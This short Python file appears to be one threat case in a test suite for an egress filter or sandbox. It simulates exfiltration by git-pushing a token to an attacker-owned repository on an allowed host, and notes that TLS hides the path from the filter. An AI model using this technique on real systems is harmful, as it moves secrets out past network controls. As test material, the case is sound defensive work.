# SPDX-License-Identifier: Apache-2.0
"""git push to the attacker's repository at an allowed host."""
TITLE = "git push to somebody else's repository"
THREAT = "62"
RESIDUAL = "path and method are inside TLS, as in 61"


def attack(c):
    with c.step("receive-pack") as token:
        with c.tls(c.dial("ok.test", 443), "ok.test") as s:
            c.talk(s, f"POST /attacker/{token}.git/git-receive-pack HTTP/1.1\r\nHost: ok.test\r\nContent-Length: 0\r\n\r\n".encode())
